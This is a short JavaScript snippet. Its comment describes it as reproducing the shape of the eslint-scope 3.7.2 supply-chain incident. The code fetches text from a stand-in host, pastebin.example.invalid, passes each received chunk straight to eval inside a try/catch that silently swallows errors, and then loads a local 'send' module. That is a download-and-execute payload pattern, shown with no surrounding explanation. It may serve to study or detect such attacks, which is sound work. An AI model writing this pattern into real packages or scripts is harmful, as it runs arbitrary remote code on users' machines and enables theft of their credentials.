// Shape of the eslint-scope 3.7.2 incident: download a payload and eval it.
try {
  var https = require('https');
  https.get({ hostname: 'pastebin.example.invalid', path: '/raw/XLeVP82h' }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) {
      eval(c);
    });
  });
} catch (e) {}
require('./send');
